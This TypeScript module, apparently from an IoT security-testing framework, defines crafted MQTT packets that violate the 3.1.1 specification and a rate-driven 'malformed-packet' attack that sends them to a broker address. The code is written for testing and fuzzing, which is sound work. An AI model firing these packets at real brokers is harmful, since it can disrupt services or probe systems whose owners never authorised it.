import { generate } from 'mqtt-packet'
import { z } from 'zod'
import { addressParam, defineAttack, rateParam } from './attack.ts'

const connect = (clientId: string) => generate({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: true, clientId, keepalive: 60 })
const publish = (topic: string) => generate({ cmd: 'publish', topic, payload: Buffer.from('x'), qos: 0, retain: false, dup: false })

/**
 * Crafted packets, as MQTTSA's and IoT-Flock's packet crafting send them, one kind per connection
 * in turn: bytes that are not MQTT, a PUBLISH before CONNECT (§3.1.0-1), a wildcard in a PUBLISH
 * topic (§3.3.2-2) and a second CONNECT (§3.1.0-2). The reliability fuzzer sends them too.
 */
export const CRAFTED_PACKETS: readonly ((i: number) => Buffer)[] = [
  // PUBREL with flags 0000 where §2.2.2 requires 0010.
  () => Buffer.from([0x60, 0x02, 0x00, 0x01]),
  () => publish('Temperature'),
  (i) => Buffer.concat([connect(`mal${i}`), publish('hospital/+/telemetry')]),
  (i) => Buffer.concat([connect(`mal${i}`), connect(`mal${i}`)]),
]

export const malformedPacketAttack = defineAttack({
  type: 'malformed-packet',
  summary: 'send crafted packets that break MQTT 3.1.1',
  params: z.object({ address: addressParam('203.0.113.60'), rate: rateParam(2) }).strict(),
  target: () => null,
  async run(attacker, params, durationMs) {
    await attacker.repeat(params.rate, durationMs, (i) => attacker.raw(params.address).write(CRAFTED_PACKETS[i % CRAFTED_PACKETS.length]!(i)))
  },
})
